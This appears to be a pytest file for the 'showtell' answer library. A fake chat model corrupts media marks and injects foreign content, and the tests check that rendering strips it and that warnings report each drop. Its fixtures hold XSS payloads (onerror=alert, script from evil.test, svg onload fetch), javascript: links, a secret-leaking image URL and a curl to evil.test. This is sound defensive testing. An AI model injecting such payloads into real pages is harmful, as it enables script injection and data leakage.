"""A chat model that corrupts marks, repeats them and writes media, addresses and markup of its own, thousands of times.

The model keeps what it broke, so that what the answer tells can be held against it: nothing unsaid, nothing invented.
"""

from __future__ import annotations

import random
import re
from collections import Counter, defaultdict
from collections.abc import Callable
from html.parser import HTMLParser
from textwrap import indent

import pytest
from markdown_it import MarkdownIt

from showtell.library import Library
from showtell.models.base import ChatRequest
from showtell.models.fake import ScriptedModel
from showtell.render.html import render_html
from showtell.render.markdown import render_markdown
from showtell.types import Answer

from .conftest import Made, figures, refs, texts

STEPS = (
    ("Unplug the espresso machine and let it cool.", "![unplugged](plug.png)"),
    ("Unscrew the brew head with the 8 mm key.", "![the key](key.png)"),
    ("Mix water with descaler.", "| Espresso machine | Descaler |\n|---|---|\n| E1 | 40 ml |\n| E2 | 65 ml |"),
    ("Soak the brew head in it for 15 minutes.", "![the bowl](bowl.png)"),
    (
        "Screw the brew head back.",
        '<iframe src="https://www.youtube.com/embed/ClickFilm_1" title="Espresso machine, descaling"></iframe>',
    ),
    ("Fill the tank of the espresso machine.", "![the tank](tank.png)"),
)
GUIDE = "# Espresso machine\n\n## Descaling the espresso machine\n\n" + "\n\n".join(
    f"{n}. {step}\n\n{indent(shown, '   ')}" for n, (step, shown) in enumerate(STEPS, start=1)
)
MARMOT = "# Marmots\n\nA marmot sleeps in winter.\n\n![A marmot](marmot.png)\n"
QUESTION = "How do I descale the espresso machine?"
DRAFT = "\n".join(f"{n}. {step[:-1]} [1]." for n, (step, _) in enumerate(STEPS, start=1))
AGAIN = ("{0}\n{0}", "{0} {0}", "{0}\n\n![[{1}]]", "{0}\n{{{{{1}}}}}", "{0}\n![{1}]({1}.png)")
FILM = "https://www.youtube.com/embed/ClickFilm_1"
WATCHED = "https://www.youtube.com/watch?v=ClickFilm_1"
MEDIA = ["plug.png", "key.png", "guide.md#table:1", "bowl.png", FILM, "tank.png"]
FOREIGN = "evil.test"
Write = Callable[[str], str]
_BARE = re.compile(r"(?:\w+://|www\.)\S+")
_MARK = re.compile(r"\[\[(M\d)\]\]")

CORRUPT: tuple[Write, ...] = (  # from an id that was offered to one that was not
    lambda id_: f"{id_}{id_[1:]}",
    lambda id_: f"M0{id_[1:]}",
    lambda id_: f"M{int(id_[1:]) + 40}",
    lambda id_: f"X{id_[1:]}",
    lambda id_: f"{id_}b",
    lambda id_: f"{id_}.png",
    lambda id_: f"figure{id_[1:]}",
    lambda id_: f"image_{id_[1:]}",
)
OWN: dict[str, tuple[Write, ...]] = {  # what the model writes of its own, by the word that its warning has for it
    "pictures": (
        lambda name: f"![{name}](https://cdn.{FOREIGN}/a.png)",
        lambda name: f"![{name}](plug.png)",
        lambda name: f"![{name}](data:image/png;base64,iVBORw0KGgo=)",
        lambda name: f"![](https://{name}.{FOREIGN}/a.png?q=secret)",
        lambda name: f"[![{name}](//{FOREIGN}/a.png)](#)",
    ),
    "addresses": (
        lambda name: f"[the manual](https://{FOREIGN}/{name})",
        lambda name: f"[x](javascript:alert('{name}'))",
        lambda name: f"<https://{FOREIGN}/{name}>",
        lambda name: f"See https://{FOREIGN}/{name} for more [1].",
        lambda name: f"Write to {name}@{FOREIGN} [1].",
        lambda name: f"www.{FOREIGN}/{name}",
        lambda name: f"\n[{name}]: https://{FOREIGN}/{name}.png",
        lambda name: f"\n[^1]: https://{FOREIGN}/{name}",
        lambda name: f"\n```\ncurl https://{FOREIGN}/{name}\n```",
    ),
    "markup": (
        lambda _: f'<img src="https://{FOREIGN}/a.png" onerror="alert(1)">',
        lambda _: f"<script src=//{FOREIGN}/a.js></script>",
        lambda _: f'<iframe src="https://{FOREIGN}/"></iframe>',
        lambda _: f'<a href="https://{FOREIGN}/">here</a>',
        lambda _: f'<video poster="https://{FOREIGN}/a.png" src=a.mp4></video>',
        lambda _: f"<svg onload=fetch('//{FOREIGN}')></svg>",
        lambda _: "<b onclick=alert(1)>now</b>",
    ),
    "own table": (
        lambda _: "\n\n| Machine | Descaler |\n|---|---|\n| E1 | 99 ml |\n\n",
        lambda _: "\n\n<table><tr><td>E1</td><td>99 ml</td></tr></table>\n\n",
        lambda _: "\n\nE1\t99 ml\nE2\t99 ml\n\n",
    ),
    "citations": (lambda _: "[7]",),
}


NEVER = (FOREIGN, "http:", "https:", "javascript:", "data:", "[[", "![", "](", "<img", "<b ", "alert", "99 ml", "own")
NAMED = ("not offered", "showed again", "pictures", "addresses")  # whose warning names each


def faithful(request: ChatRequest) -> str:
    """The draft, as it was given where it is to be revised."""
    given = request.messages[-1].text.partition("Draft:\n")[2]
    return given.partition("\n\n")[0] or DRAFT


class Vandal:
    """Drafts and revises, and spoils it; ``broke`` keeps what it did to an answer, by the word that tells it."""

    def __init__(self, seed: int, *, in_draft: float, in_revision: float) -> None:
        self.dice = random.Random(seed)
        self.in_draft, self.in_revision = in_draft, in_revision
        self.broke: defaultdict[str, set[str]] = defaultdict(set)

    def __call__(self, request: ChatRequest) -> str:
        text = faithful(request)
        if "[[" in text:
            return self._with_own(_MARK.sub(self._mark, text), self.in_revision)
        if self.dice.random() < self.in_draft:
            self.broke["not offered"].add("M1")
            text += "\n\n[[M1]]"
        return self._with_own(text, self.in_draft)

    def _mark(self, found: re.Match[str]) -> str:
        mark, id_ = found.group(0, 1)
        if self.dice.random() < 0.01:
            name = self.dice.choice(CORRUPT)(id_)
            self.broke["not offered"].add(name)
            return f"[[{name}]]"
        if self.dice.random() < 0.1:
            self.broke["showed again"].add(id_)
            return self.dice.choice(AGAIN).format(mark, id_)
        return mark

    def _with_own(self, text: str, share: float) -> str:
        """The text with something of the model's own behind this share of its lines."""
        return "\n".join(line + self._own() if self.dice.random() < share else line for line in text.split("\n"))

    def _own(self) -> str:
        kind, name = self.dice.choice(list(OWN)), f"own{self.dice.randrange(10**6)}"
        self.broke[kind].add(name)
        return self.dice.choice(("{} ", "\n{}\n")).format(self.dice.choice(OWN[kind])(name))


@pytest.fixture
def library(made: Made) -> Library:
    pictures = [name for name in MEDIA if name.endswith(".png")]
    return made({"guide.md": GUIDE, "marmot.md": MARMOT}, [*pictures, "marmot.png"], words_alone=True)


def asked(library: Library, model: Callable[[ChatRequest], str]) -> Answer:
    library.model = ScriptedModel(model)
    return library.ask(QUESTION)


# ------------------------------------------------------------------------------------------------- what must hold of it
class Page(HTMLParser):
    """What a page loads and leads to, and its handlers of events."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.links: set[str] = set()
        self.loads: set[str] = set()
        self.handlers: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in ("src", "srcset", "poster", "data", "action", "background") or (tag, name) == ("link", "href"):
                self.loads.add(value or "")
            elif name.endswith("href"):
                self.links.add(value or "")
            elif name.startswith("on"):
                self.handlers.append(f"{tag} {name}={value}")


def addresses(markdown: str) -> set[str]:
    """What Markdown leads to and loads; a bare address is a link on GitHub."""
    parser = MarkdownIt("commonmark").disable("text_join")
    tokens = [each for token in parser.parse(markdown) for each in [token, *(token.children or ())]]
    assert not [token.content for token in tokens if token.type.startswith("html")]
    bare = [found for token in tokens if token.type == "text" for found in _BARE.findall(token.content)]
    return {str(token.attrs[name]) for token in tokens for name in ("href", "src") if name in token.attrs} | set(bare)


def check_media(answer: Answer, offered: set[str]) -> None:
    shown = [part.media.id for part in figures(answer)]
    assert set(shown) <= offered
    assert len(shown) == len(set(shown))


def check_text(answer: Answer) -> None:
    said = "\n".join(part.text for part in texts(answer))
    for foreign in NEVER:
        assert foreign not in said, said


def check_renderings(answer: Answer, library: Library) -> None:
    page = Page(render_html(answer, library.asset).partition("<body")[2])
    assert not page.handlers
    assert all(each.startswith(("data:,", "data:image/png;base64,")) for each in page.loads)
    assert all(each.startswith(("#", WATCHED)) or each.endswith(tuple(MEDIA)) for each in page.links), page.links
    led = addresses(render_markdown(answer))
    assert all(each.startswith(WATCHED) or each.endswith((".png", ".md")) for each in led), led
    assert not any(FOREIGN in each for each in (*page.loads, *page.links, *led))


def check_told(answer: Answer, broke: dict[str, set[str]]) -> None:
    """Every drop has its warning, which names it; and no warning tells of a drop that was not made."""
    for kind, names in broke.items():
        told = [warning for warning in answer.warnings if kind in warning]
        assert told, (kind, names, answer.warnings)
        if kind in NAMED:
            assert all(any(name in warning for warning in told) for name in names), (names, told)
    for kind in ("not offered", "showed again"):
        listed = [warning.partition(": ")[2].split(", ") for warning in answer.warnings if kind in warning]
        assert {name for names in listed for name in names} == broke.get(kind, set())


def fire(library: Library, model: Vandal, times: int) -> Counter[str]:
    """Ask so many times, and check each answer; how often each kind of breach was committed."""
    calm = asked(library, faithful)
    assert sorted(refs(calm)) == sorted(MEDIA)
    offered = {part.media.id for part in figures(calm)}
    done: Counter[str] = Counter()
    rendered = set()
    for _ in range(times):
        model.broke.clear()
        answer = asked(library, model)
        assert answer.status == "answered"
        check_media(answer, offered)
        check_text(answer)
        check_told(answer, model.broke)
        looks = (*(getattr(part, "text", "") or part for part in answer.parts), answer.warnings)
        if looks not in rendered:
            check_renderings(answer, library)
            rendered.add(looks)
        done.update({kind: len(names) for kind, names in model.broke.items()})
        done["revision stands"] += not any("revision was left out" in warning for warning in answer.warnings)
    return done


def test_a_thousand_spoiled_revisions_show_nothing_foreign_and_tell_every_drop(library: Library) -> None:
    done = fire(library, Vandal(3, in_draft=0, in_revision=0.05), 1000)
    assert done["not offered"] > 40
    assert done["showed again"] > 400
    assert done["revision stands"] > 700
    assert all(done[kind] > 80 for kind in OWN)


def test_spoiled_drafts_show_nothing_foreign_and_tell_every_drop(library: Library) -> None:
    done = fire(library, Vandal(4, in_draft=0.1, in_revision=0), 200)
    assert done["not offered"] > 20
    assert all(done[kind] > 15 for kind in OWN)
